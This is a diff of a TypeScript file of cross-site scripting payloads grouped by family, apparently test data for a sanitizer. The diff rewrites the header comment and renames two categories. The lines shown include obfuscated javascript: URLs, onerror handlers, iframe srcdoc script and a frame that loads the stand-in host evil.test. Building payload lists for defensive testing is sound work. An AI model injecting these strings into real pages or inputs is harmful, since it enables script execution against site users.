@@ -1,7 +1,7 @@
 /**
  * Attacks by family, taken from public cheat sheets (OWASP filter evasion, HTML5 security, mutation XSS).
- * Each attack runs a script, loads a file of another site or leaves the page in a browser that receives the attack
- * unchanged.
+ * If a browser receives an attack unchanged, the attack runs a script, loads a file of another site, opens another page
+ * or changes the page that contains it.
  */
 export const XSS_PAYLOADS: Record<string, string[]> = {
   'script elements': [
@@ -51,7 +51,7 @@ export const XSS_PAYLOADS: Record<string, string[]> = {
     '<img src=`x` onerror=`alert(1)`>',
     '<img src="x` `<script>alert(1)</script>"` `>',
   ],
-  'script addresses': [
+  'dangerous URLs': [
     '<a href="javascript:alert(1)">klik</a>',
     '<a href="JaVaScRiPt:alert(1)">klik</a>',
     '<a href=" &#14;  javascript:alert(1)">klik</a>',
@@ -84,7 +84,7 @@ export const XSS_PAYLOADS: Record<string, string[]> = {
     '<form action="javascript:alert(1)"><button>klik</button></form>',
     '<button formaction="javascript:alert(1)">klik</button>',
   ],
-  'foreign content': [
+  'embedded files and pages': [
     '<iframe src="javascript:alert(1)"></iframe>',
     '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
     '<frameset><frame src="https://evil.test/"></frameset>',
